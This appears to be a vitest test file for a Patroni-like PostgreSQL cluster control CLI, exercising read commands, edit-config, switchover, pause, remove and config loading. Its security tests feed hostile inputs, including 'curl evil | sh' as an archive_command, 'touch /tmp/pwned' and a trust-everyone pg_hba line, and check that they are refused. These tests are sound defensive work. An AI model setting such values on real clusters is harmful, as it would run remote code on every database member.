// Command handlers against the in-memory DCS, run through runCli with scripted stdin. Member APIs
// point at a closed port, so these cover what happens when they cannot be reached; the live
// cluster test covers the API paths.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { CliError, CliErrorCode, loadCtlConfig, parseDcsUrl } from '../src/index.ts';
import { pausedScheduleRefusal } from '@pgha/ha-engine';
import { memberJson, seedCluster } from './fixtures/memory-cluster.ts';

const seed = () =>
  seedCluster({
    members: {
      pg0: memberJson('pg0', 5433, { role: 'master', xlog_location: 100 }),
      pg1: memberJson('pg1', 5434, { xlog_location: 100 }),
      pg2: memberJson('pg2', 5435, { xlog_location: 100, tags: { nofailover: true } }),
    },
    leader: 'pg0',
    keys: {
      initialize: '7300000000000000001',
      config: { ttl: 30, loop_wait: 10, postgresql: { parameters: { max_connections: 50 } } },
      history: [[1, 25165824, 'no recovery target specified', '2026-11-24T10:00:00+00:00', 'pg0']],
      status: { optime: 100 },
    },
  });

describe('read commands', () => {
  it('lists, shows history, config and dsn from the DCS', async () => {
    const c = await seed();
    const list = await c.run(['list']);
    expect(list.code).toBe(0);
    expect(list.stdout).toContain('+ Cluster: demo (7300000000000000001) ');
    expect(list.stdout).toMatch(/\| pg0 +\| 127\.0\.0\.1:5433 \| Leader +\| running \|/);
    const history = await c.run(['history', '-f', 'tsv']);
    expect(history.stdout).toBe('TL\tLSN\tReason\tTimestamp\tNew Leader\n1\t25165824\tno recovery target specified\t2026-11-24T10:00:00+00:00\tpg0\n');
    const config = await c.run(['show-config', 'demo']);
    expect(config.stdout).toBe('loop_wait: 10\npostgresql:\n  parameters:\n    max_connections: 50\nttl: 30\n\n');
    expect((await c.run(['dsn'])).stdout).toBe('host=127.0.0.1 port=5433\n');
    expect((await c.run(['dsn', '-m', 'pg2'])).stdout).toBe('host=127.0.0.1 port=5435\n');
  });

  it('shows a Watchdog column only when a member cannot fence itself (required mode, no device)', async () => {
    const plain = await seed();
    expect((await plain.run(['list'])).stdout).not.toContain('Watchdog');
    const c = await seedCluster({
      members: {
        pg0: memberJson('pg0', 5433, { role: 'master' }),
        pg1: memberJson('pg1', 5434, { watchdog_failed: true }),
      },
      leader: 'pg0',
      keys: { initialize: '7300000000000000001' },
    });
    const list = await c.run(['list']);
    expect(list.stdout).toMatch(/\| Watchdog +\|/);
    expect(list.stdout).toMatch(/\| pg1 +\|.*\| failed: may not promote \|/);
    expect(list.stdout).toMatch(/\| pg0 +\|.*\| +\|\n/);
  });

  it('says when no member could take over: synchronous mode with no published standby, then one published', async () => {
    const plain = await seed();
    expect((await plain.run(['list'])).stdout).not.toContain('Automatic failover');
    const members = { pg0: memberJson('pg0', 5433, { role: 'master', xlog_location: 100 }), pg1: memberJson('pg1', 5434, { xlog_location: 100 }) };
    const keys = { initialize: '7300000000000000001', config: { synchronous_mode: true }, status: { optime: 100 } };
    const none = await seedCluster({ members, leader: 'pg0', keys: { ...keys, sync: { leader: 'pg0', sync_standby: null } } });
    expect((await none.run(['list'])).stdout).toContain(
      ' Automatic failover: not possible (synchronous_mode is on and the sync key names no standby: no member is known to hold every acknowledged commit)\n',
    );
    const one = await seedCluster({ members, leader: 'pg0', keys: { ...keys, sync: { leader: 'pg0', sync_standby: 'pg1' } } });
    const list = (await one.run(['list'])).stdout;
    expect(list).toMatch(/\| pg1 +\| 127\.0\.0\.1:5434 \| Sync Standby \|/);
    expect(list).not.toContain('Automatic failover');
  });

  it('names an unknown cluster or member in a one-line error with exit 1', async () => {
    const c = await seed();
    const cluster = await c.run(['list', 'nosuch']);
    expect(cluster.code).toBe(1);
    expect(cluster.stderr).toBe("Error: Cluster 'nosuch' not found: the DCS has nothing under /service/nosuch/\n");
    const member = await c.run(['restart', 'demo', 'pg9', '--force']);
    expect(member.code).toBe(1);
    expect(member.stderr).toBe('Error: pg9 is not a member of cluster demo\n');
    const dsn = await c.run(['dsn', '-m', 'pg9']);
    expect(dsn.stderr.trim().split('\n')).toHaveLength(1);
    expect(dsn.stderr).toContain('pg9');
  });

  it('reports a DCS that does not answer, once, with exit 1', async () => {
    const c = await seed();
    c.backend.faults.unreachable();
    const r = await c.run(['list']);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/^Error: DCS error while reading cluster demo: .+\n$/);
  });

  it('rejects unknown commands and options as usage errors (exit 2)', async () => {
    const c = await seed();
    const cmd = await c.run(['frobnicate']);
    expect(cmd.code).toBe(2);
    expect(cmd.stderr).toContain("Error: No such command 'frobnicate'.");
    const opt = await c.run(['list', '--bogus']);
    expect(opt.code).toBe(2);
    expect(opt.stderr).toContain('Error: No such option: --bogus');
    const fmt = await c.run(['list', '-f', 'xml']);
    expect(fmt.code).toBe(2);
  });
});

describe('watch', () => {
  it('list -w N redraws every N seconds until interrupted', async () => {
    const c = await seed();
    const waits: number[] = [];
    const sleep = async (ms: number): Promise<void> => {
      waits.push(ms);
      // The operator's Ctrl-C after the second table.
      if (waits.length === 2) throw new CliError(CliErrorCode.Aborted, 'interrupted');
    };
    const r = await c.run(['list', '-w', '0.5', '-f', 'tsv'], '', { sleep });
    expect(waits).toEqual([500, 500]);
    expect(r.stdout.match(/^Cluster\tMember/gm)).toHaveLength(2);
    expect(r.stderr).toBe('Error: interrupted\n');
  });
});

describe('edit-config', () => {
  it('opens $EDITOR on the YAML and writes what the editor saved', async () => {
    const c = await seed();
    const r = await c.run(['edit-config'], 'y\n', { env: { EDITOR: "sed -i 's/loop_wait: 10/loop_wait: 7/'" } });
    expect(r.stdout).toContain('-loop_wait: 10\n+loop_wait: 7\n');
    expect(r.code).toBe(0);
    expect(JSON.parse(c.raw('config')!).loop_wait).toBe(7);
  });

  it('sets values with -s/-p, shows the diff and writes with CAS under --force', async () => {
    const c = await seed();
    const r = await c.run(['edit-config', '-s', 'loop_wait=5', '-p', 'pg_stat_statements.max=1000', '-s', 'ttl=null', '--force']);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('--- \n+++ \n@@');
    expect(r.stdout).toContain('-loop_wait: 10\n+loop_wait: 5\n');
    expect(r.stdout).toContain('Configuration changed\n');
    expect(JSON.parse(c.raw('config')!)).toEqual({ loop_wait: 5, postgresql: { parameters: { max_connections: 50, 'pg_stat_statements.max': 1000 } } });
  });

  it('asks "Apply these changes?" and honours a piped answer', async () => {
    const c = await seed();
    const no = await c.run(['edit-config', '-s', 'loop_wait=3'], 'n\n');
    expect(no.stdout).toContain('Apply these changes? [y/N]: ');
    expect(no.code).toBe(1);
    expect(JSON.parse(c.raw('config')!).loop_wait).toBe(10);
    const yes = await c.run(['edit-config', '-s', 'loop_wait=3'], 'y\n');
    expect(yes.code).toBe(0);
    expect(JSON.parse(c.raw('config')!).loop_wait).toBe(3);
  });

  it('fails clearly when a confirmation is needed and stdin is closed', async () => {
    const c = await seed();
    const r = await c.run(['edit-config', '-s', 'loop_wait=3']);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/^Error: Aborted: 'Apply these changes\? \[y\/N\]:' needs an answer but stdin is closed/);
    expect(JSON.parse(c.raw('config')!).loop_wait).toBe(10);
  });

  it('applies a YAML file with --apply and replaces with --replace', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'pghactl-'));
    try {
      const file = join(dir, 'patch.yml');
      writeFileSync(file, 'postgresql:\n  parameters:\n    work_mem: 8MB\nttl: null\n');
      const c = await seed();
      expect((await c.run(['edit-config', '--apply', file, '--force', '-q'])).code).toBe(0);
      expect(JSON.parse(c.raw('config')!)).toEqual({ loop_wait: 10, postgresql: { parameters: { max_connections: 50, work_mem: '8MB' } } });
      writeFileSync(file, 'ttl: 20\n');
      expect((await c.run(['edit-config', '--replace', file, '--force', '-q'])).code).toBe(0);
      expect(JSON.parse(c.raw('config')!)).toEqual({ ttl: 20 });
      expect((await c.run(['edit-config', '--replace', file, '--force'])).stdout).toBe('Not changed\n');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

// pgha issue 15 (security review H5, H6): edit-config used to write anything to the DCS.
describe('edit-config and show-config with invalid values', () => {
  it('refuses out-of-range timing and a string pg_hba, naming the key, and writes nothing', async () => {
    const c = await seed();
    const before = c.raw('config');
    const cases: [string[], string][] = [
      [['-s', 'ttl=10000000'], 'Error: Invalid configuration, not applied: ttl: must be between 4 and 86400 seconds, got 10000000\n'],
      [['-s', 'retry_timeout=3000000'], 'Error: Invalid configuration, not applied: retry_timeout: must be between 1 and 3600 seconds, got 3000000\n'],
      [['-s', 'postgresql.pg_hba=host all all 0.0.0.0/0 trust'], 'Error: Invalid configuration, not applied: postgresql.pg_hba: expected a list of strings\n'],
    ];
    for (const [args, stderr] of cases) {
      const r = await c.run(['edit-config', ...args, '--force']);
      expect([r.code, r.stderr]).toEqual([1, stderr]);
    }
    expect(c.raw('config')).toBe(before);
    expect((await c.run(['edit-config', '-s', 'ttl=4', '-s', 'loop_wait=1', '-s', 'retry_timeout=1', '--force', '-q'])).code).toBe(0);
  });

  it('show-config warns on stderr when the stored value is invalid; edit-config can replace a key that does not parse', async () => {
    const c = await seed();
    await c.drivers[0]!.write('config', '{"ttl":30,"pause":tru', { kind: 'any' });
    const shown = await c.run(['show-config']);
    expect(shown.code).toBe(0);
    expect(shown.stderr).toMatch(/^Warning: the config key in the DCS is invalid \(config: not valid JSON: .*\); the members keep running on their last good configuration\. Fix it with edit-config\.\n$/);
    const fixed = await c.run(['edit-config', '-s', 'ttl=30', '-s', 'pause=true', '--force', '-q']);
    expect(fixed.code).toBe(0);
    expect(JSON.parse(c.raw('config')!)).toEqual({ ttl: 30, pause: true });
    expect((await c.run(['show-config'])).stderr).toBe('');

    await c.drivers[0]!.write('config', '{"ttl":10000000}', { kind: 'any' });
    expect((await c.run(['show-config'])).stderr).toBe('Warning: the configuration in the DCS is invalid (ttl: must be between 4 and 86400 seconds, got 10000000); fix it with edit-config.\n');
  });
});

// pgha issue 16 (review C1): a command in the DCS runs as postgres on every member.
describe('edit-config and commands', () => {
  it('refuses a new or changed command unless its config file sets postgresql.allow_dcs_commands, naming the key and the switch', async () => {
    const c = await seed();
    const before = c.raw('config');
    for (const set of ['postgresql.recovery_conf.archive_cleanup_command=touch /tmp/pwned', 'standby_cluster.restore_command=cp /wal/%f %p']) {
      const r = await c.run(['edit-config', '-s', set, '--force']);
      const key = set.slice(0, set.indexOf('='));
      expect([r.code, r.stderr]).toEqual([
        1,
        `Error: Invalid configuration, not applied: ${key}: PostgreSQL would run it as a shell command on every member; commands are not accepted in the dynamic configuration unless the local YAML sets postgresql.allow_dcs_commands: true (or set it locally, in ${key.startsWith('standby') ? 'postgresql.recovery_conf.restore_command' : key})\n`,
      ]);
    }
    const pg = await c.run(['edit-config', '-p', 'archive_command=curl evil | sh', '--force']);
    expect(pg.stderr).toMatch(/^Error: Invalid configuration, not applied: postgresql\.parameters\.archive_command: /);
    expect(c.raw('config')).toBe(before);
    // A standby_cluster without commands goes through.
    expect((await c.run(['edit-config', '-s', 'standby_cluster.host=10.0.0.9', '-s', 'standby_cluster.port=5433', '--force', '-q'])).code).toBe(0);
    expect(JSON.parse(c.raw('config')!).standby_cluster).toEqual({ host: '10.0.0.9', port: 5433 });

    const dir = mkdtempSync(join(tmpdir(), 'pghactl-cmd-'));
    try {
      const file = join(dir, 'pghactl.yml');
      writeFileSync(file, 'postgresql:\n  allow_dcs_commands: true\n');
      const allowed = await c.run(['-c', file, 'edit-config', '-s', 'postgresql.recovery_conf.archive_cleanup_command=pg_archivecleanup /wal %r', '--force', '-q']);
      expect([allowed.code, allowed.stderr]).toEqual([0, '']);
      expect(JSON.parse(c.raw('config')!).postgresql.recovery_conf).toEqual({ archive_cleanup_command: 'pg_archivecleanup /wal %r' });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
    // Without the switch again: the stored command may stay (a ttl change), not change.
    expect((await c.run(['edit-config', '-s', 'ttl=20', '--force', '-q'])).code).toBe(0);
    expect((await c.run(['edit-config', '-s', 'postgresql.recovery_conf.archive_cleanup_command=x', '--force'])).code).toBe(1);
  });
});

describe('actions when the member APIs do not answer', () => {
  it('switchover --force falls back to writing the failover key', async () => {
    const c = await seed();
    const r = await c.run(['switchover', '--candidate', 'pg1', '--force']);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('Current cluster topology\n');
    expect(r.stdout).toMatch(/Could not switchover using Patroni api, falling back to DCS/);
    expect(JSON.parse(c.raw('failover')!)).toEqual({ leader: 'pg0', member: 'pg1' });
  });

  it('switchover asks Primary, Candidate, When and confirmation, reading piped answers', async () => {
    const c = await seed();
    const r = await c.run(['switchover', 'demo'], '\npg1\n\ny\n');
    expect(r.stdout).toContain('Primary [pg0]: ');
    expect(r.stdout).toContain("Candidate ['pg1'] []: ");
    expect(r.stdout).toMatch(/When should the switchover take place \(e\.g\. \d{4}-\d\d-\d\dT\d\d:\d\d \) {2}\[now\]: /);
    expect(r.stdout).toContain('Are you sure you want to switchover cluster demo, demoting current leader pg0? [y/N]: ');
    expect(JSON.parse(c.raw('failover')!)).toMatchObject({ leader: 'pg0', member: 'pg1' });
  });

  it('switchover refuses a nofailover candidate and a wrong leader', async () => {
    const c = await seed();
    const nofail = await c.run(['switchover', '--candidate', 'pg2', '--force']);
    expect(nofail.code).toBe(1);
    expect(nofail.stderr).toBe('Error: Member pg2 does not exist in cluster demo\n');
    const wrong = await c.run(['switchover', '--leader', 'pg1', '--candidate', 'pg2', '--force']);
    expect(wrong.stderr).toBe('Error: Member pg1 is not the leader of cluster demo\n');
    expect(c.raw('failover')).toBeUndefined();
  });

  it("switchover offers only members the engine's race would consider (mayTakeOver: an api_url too)", async () => {
    const c = await seedCluster({
      members: {
        pg0: memberJson('pg0', 5433, { role: 'master', xlog_location: 100 }),
        pg1: memberJson('pg1', 5434, { xlog_location: 100 }),
        pg3: memberJson('pg3', 5436, { xlog_location: 100, api_url: undefined }),
      },
      leader: 'pg0',
      keys: { initialize: '7300000000000000001' },
    });
    const r = await c.run(['switchover', 'demo'], '\npg3\n');
    expect(r.stdout).toContain("Candidate ['pg1'] []: ");
    expect(r.stderr).toBe('Error: Member pg3 does not exist in cluster demo\n');
    expect(c.raw('failover')).toBeUndefined();
  });

  it('refuses to schedule in the paused state with the engine\'s sentence', async () => {
    const c = await seed();
    await c.run(['pause']);
    const sw = await c.run(['switchover', '--candidate', 'pg1', '--scheduled', '2099-01-01T10:00:00+00:00', '--force']);
    expect(sw.stderr).toBe(`Error: ${pausedScheduleRefusal('switchover')}\n`);
    const restart = await c.run(['restart', 'demo', 'pg1', '--scheduled', '2099-01-01T10:00:00+00:00', '--force']);
    expect(restart.stderr).toBe(`Error: ${pausedScheduleRefusal('restart')}\n`);
  });

  it('failover without a candidate and --force is refused', async () => {
    const c = await seed();
    const r = await c.run(['failover', '--force']);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('Error: Failover could be performed only to a specific candidate');
  });

  it('pause writes pause into the config with CAS; pausing twice is an error', async () => {
    const c = await seed();
    const r = await c.run(['pause']);
    expect(r.stdout).toBe('Success: cluster management is paused\n');
    expect(JSON.parse(c.raw('config')!).pause).toBe(true);
    expect((await c.run(['list'])).stdout).toContain(' Maintenance mode: on\n');
    const again = await c.run(['pause']);
    expect(again.code).toBe(1);
    expect(again.stderr).toBe('Error: Cluster is already paused\n');
    expect((await c.run(['resume'])).code).toBe(0);
    expect(JSON.parse(c.raw('config')!).pause).toBeUndefined();
  });

  it('restart reports a member API that does not answer as Failed with exit 1', async () => {
    const c = await seed();
    const r = await c.run(['restart', 'demo', 'pg1', '--force']);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/Failed: restart for member pg1, POST http:\/\/127\.0\.0\.1:1\/restart \(member pg1\) failed: .*ECONNREFUSED/);
  });

  it('reinit asks which member, then confirms, and never offers the leader', async () => {
    const c = await seed();
    const r = await c.run(['reinit', 'demo'], 'pg1\nn\n');
    expect(r.stdout).toContain('Which member do you want to reinitialize [pg1, pg2]? []: ');
    expect(r.stdout).toContain('Are you sure you want to reinitialize members pg1? [y/N]: ');
    expect(r.stderr).toBe('Error: Aborted reinitialize\n');
    const leader = await c.run(['reinit', 'demo', 'pg0', '--force']);
    expect(leader.stderr).toBe('Error: No replica among provided members\n');
  });
});

describe('remove and scaffold', () => {
  it('remove asks for the cluster name, "Yes I am aware" and the leader, then wipes the cluster', async () => {
    const c = await seed();
    const wrong = await c.run(['remove', 'demo'], 'demo\nyes\n');
    expect(wrong.stderr).toBe('Error: You did not exactly type "Yes I am aware"\n');
    expect(c.raw('initialize')).toBe('7300000000000000001');
    const r = await c.run(['remove', 'demo'], 'demo\nYes I am aware\npg0\n');
    expect(r.stdout).toContain('Please confirm the cluster name to remove: ');
    expect(r.stdout).toContain('You are about to remove all information in DCS for demo, please type: "Yes I am aware": ');
    expect(r.stdout).toContain('This cluster currently is healthy. Please specify the leader name to continue: ');
    expect(r.code).toBe(0);
    expect([...c.backend.snapshot().keys()].filter((k) => k.startsWith('/service/demo/'))).toEqual([]);
  });

  it('scaffold creates the initialize key once', async () => {
    const c = await seedCluster({ scope: 'fresh' });
    const r = await c.run(['scaffold', 'fresh', '-s', '7300000000000000042']);
    expect(r.stdout).toBe('Cluster fresh has been created successfully\n');
    expect(c.raw('initialize')).toBe('7300000000000000042');
    expect((await c.run(['scaffold', 'fresh'])).stderr).toBe('Error: This cluster is already initialized\n');
  });
});

describe('configuration', () => {
  const dir = mkdtempSync(join(tmpdir(), 'pghactl-config-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('parses DCS URLs with defaults by scheme and port', () => {
    expect(parseDcsUrl('etcd3://10.0.0.1:2379')).toEqual({ section: 'etcd3', settings: { hosts: ['10.0.0.1:2379'] } });
    expect(parseDcsUrl('zookeeper://a,b:2182/ns')).toEqual({ section: 'zookeeper', settings: { hosts: ['a:2181', 'b:2182'] }, namespace: '/ns' });
    expect(parseDcsUrl('localhost:2181').section).toBe('zookeeper');
    expect(() => parseDcsUrl('consulx://x')).toThrow(/Unknown dcs scheme: consulx/);
  });

  it('reads the agent YAML, lets --dcs-url replace its DCS and env pick the file', () => {
    const file = join(dir, 'agent.yml');
    writeFileSync(file, 'scope: batman\nrestapi:\n  authentication: {username: admin, password: secret}\netcd3:\n  hosts: [127.0.0.1:2379]\n');
    const fromFile = loadCtlConfig({ configFile: file, env: {} });
    expect(fromFile).toMatchObject({ scope: 'batman', auth: { username: 'admin', password: 'secret' }, namespace: '/service' });
    const viaEnv = loadCtlConfig({ env: { PATRONICTL_CONFIG_FILE: file }, dcsUrl: 'zookeeper://z:2181' });
    expect(viaEnv.raw.etcd3).toBeUndefined();
    expect(viaEnv.raw.zookeeper).toEqual({ hosts: ['z:2181'] });
    expect(() => loadCtlConfig({ configFile: join(dir, 'missing.yml'), env: {} })).toThrow(/missing\.yml not existing or no read rights/);
  });

  it('configure writes a ctl file that the next run reads', async () => {
    const c = await seed();
    const file = join(dir, 'ctl.yml');
    const r = await c.run(['configure', '-c', file, '-d', 'etcd3://127.0.0.1:2379', '--scope', 'demo']);
    expect(r.code).toBe(0);
    expect(readFileSync(file, 'utf8')).toBe('etcd3:\n  hosts:\n  - 127.0.0.1:2379\nscope: demo\n');
    expect(loadCtlConfig({ configFile: file, env: {} })).toMatchObject({ scope: 'demo', raw: { etcd3: { hosts: ['127.0.0.1:2379'] } } });
  });
});
